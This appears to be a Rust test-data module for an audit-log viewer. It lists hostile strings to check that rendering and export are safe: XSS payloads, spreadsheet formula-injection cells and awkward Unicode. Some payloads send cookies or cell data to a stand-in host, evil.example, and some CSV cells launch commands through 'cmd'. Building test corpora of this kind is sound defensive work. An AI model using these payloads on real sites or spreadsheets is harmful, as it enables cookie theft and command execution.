//! Hostile strings mixed into generated data: audited users type anything, so
//! the viewer must render and export it safely. These lists are the test
//! corpus; the generator draws from them for commands, window titles, user
//! names, tags and alert text.

/// At least 50 distinct HTML/JavaScript injection payloads.
pub const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "<svg/onload=alert('xss')>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "javascript:alert(document.cookie)",
    "<a href=\"javascript:alert(1)\">click</a>",
    "'\"><script>alert(String.fromCharCode(88,83,83))</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=\"x\" onerror=\"fetch('//evil.example/'+document.cookie)\">",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<object data=\"javascript:alert(1)\">",
    "<embed src=\"javascript:alert(1)\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=import href=\"//evil.example/x\">",
    "<base href=\"//evil.example/\">",
    "<form action=\"javascript:alert(1)\"><button>go</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<table background=\"javascript:alert(1)\">",
    "<img src=1 onerror=eval(atob('YWxlcnQoMSk='))>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= 7*7 %>",
    "';alert(1);//",
    "\";alert(1);//",
    "</script><script>alert(1)</script>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<style>@import 'javascript:alert(1)';</style>",
    "<x onclick=alert(1)>click me</x>",
    "<b onmouseover=alert(1)>hover</b>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>XSS</text></a></svg>",
    "<keygen autofocus onfocus=alert(1)>",
    "<frameset onload=alert(1)>",
    "<img srcset=\",,,,,x\" onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<h1 style=\"position:fixed;top:0;left:0;width:100%;height:100%\">PWNED</h1>",
];

/// Cells a spreadsheet would run as formulas.
pub const CSV_FORMULAS: &[&str] = &[
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "=1+2;=cmd|'/C notepad'!'A1'",
    "\t=1+1",
    "\r=1+1",
];

/// Right-to-left, bidi-control, emoji and other awkward Unicode text.
pub const UNICODE: &[&str] = &[
    "שלום עולם",
    "مرحبا بالعالم",
    "abc\u{202E}gpj.exe",
    "\u{200F}\u{202B}rtl override\u{202C}",
    "🔥🚀💥 deploy",
    "👩‍💻👨‍👩‍👧‍👦",
    "Zalgo: Z̴̡̛a̵͖̓l̶̰̈g̷̣̍ǒ̸̞",
    "日本語のタイトル",
    "null\u{0}byte",
    "tab\there\nnewline",
];

/// Every hostile string, for places that take any of them.
pub fn all() -> impl Iterator<Item = &'static str> {
    XSS.iter().chain(CSV_FORMULAS).chain(UNICODE).copied()
}

/// A 10,000-character line (with a payload at its end, to test truncation in the UI).
pub fn long_line(seed: u64) -> String {
    let mut s = String::with_capacity(10_100);
    let word = ["lorem", "ipsum", "dolor", "sit", "amet"];
    let mut i = seed as usize;
    while s.len() < 10_000 - 40 {
        s.push_str(word[i % word.len()]);
        s.push(' ');
        i = i.wrapping_mul(31).wrapping_add(7);
    }
    s.push_str("<script>alert('end')</script>");
    while s.len() < 10_000 {
        s.push('.');
    }
    s
}
